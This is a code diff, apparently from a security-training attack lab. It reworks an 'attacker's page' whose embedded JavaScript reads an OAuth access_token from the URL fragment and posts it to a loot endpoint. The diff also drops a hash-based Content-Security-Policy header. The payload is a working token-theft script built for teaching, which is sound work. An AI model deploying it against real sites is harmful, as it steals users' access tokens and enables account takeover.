@@ -1,4 +1,3 @@
-import { createHash } from 'node:crypto';
 import { z } from 'zod';
 import { errorResponse } from '../http/errors';
 import { runOf } from '../trace/run';
@@ -12,35 +11,41 @@ import { lootStore } from './loot';
  * across the redirect, posts it to the attacker's server, and hands the tab back to the lab (/callback)
  * saying what it caught. Fragments never reach a server by themselves: a script on the page must read them.
  */
-export const TOKEN_CATCHER_PATH = '/api/attacker/token-catcher';
+export const TOKEN_CATCHER_PAGE = '/attacks/attacker/token-catcher';
+export const TOKEN_CATCHER_LOOT = '/api/attacker/token-catcher';
 
+// Served as a file of this origin (script-src 'self'), not inline: the page's policy allows no inline script.
 const SCRIPT =
   "(function(){var f=new URLSearchParams(location.hash.slice(1)),t=f.get('access_token')," +
   "s=document.getElementById('status');" +
   "function back(c){location.replace('/callback?'+new URLSearchParams({attacker_caught:c}))}" +
   "if(!t){s.textContent='Nothing in this page\\u2019s address: no fragment, no token.';back('nothing');return}" +
   "s.textContent='Found an access token in the fragment; sending it to the attacker\\u2019s server.';" +
-  "fetch(location.pathname,{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'}," +
+  `fetch(${JSON.stringify(TOKEN_CATCHER_LOOT)},{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},` +
   "body:new URLSearchParams({access_token:t})}).then(function(r){back(r.ok?'access_token':'nothing')}," +
   "function(){back('nothing')})})();";
-
-const SCRIPT_HASH = createHash('sha256').update(SCRIPT).digest('base64');
 
 const PAGE = `<!doctype html>
 <html lang="en"><head><meta charset="utf-8"><meta name="referrer" content="no-referrer">
 <title>The attacker’s page (attack lab)</title></head>
 <body><main><h1>The attacker’s page (attack lab)</h1><p id="status">Reading this page’s address…</p></main>
-<script>${SCRIPT}</script></body></html>`;
+<script src="${TOKEN_CATCHER_PAGE}/script"></script></body></html>`;
 
-/** GET: the page, allowed to run its one script and to post to this origin only. */
+/** GET /attacks/attacker/token-catcher: the page, which runs the attacker's script from this origin. */
 export function tokenCatcherPage(): Response {
   return new Response(PAGE, {
     headers: {
       'content-type': 'text/html; charset=utf-8',
       'cache-control': 'no-store',
       'referrer-policy': 'no-referrer',
-      'content-security-policy': `default-src 'none'; script-src 'sha256-${SCRIPT_HASH}'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'`,
     },
+  });
+}
+
+/** GET /attacks/attacker/token-catcher/script: what the page runs. */
+export function tokenCatcherScript(): Response {
+  return new Response(SCRIPT, {
+    headers: { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'no-store' },
   });
 }
 
@@ -48,7 +53,7 @@ export const caughtTokenSchema = z.object({
   access_token: z.string().min(1, 'access_token: the caught token is missing').max(4096),
 });
 
-/** POST: the page's script delivers the token it read from the fragment. */
+/** POST /api/attacker/token-catcher: the page's script delivers the token it read from the fragment. */
 export async function receiveCaughtToken(request: Request): Promise<Response> {
   const learnerId = await learnerOf(request);
   if (!learnerId) return noLearner();
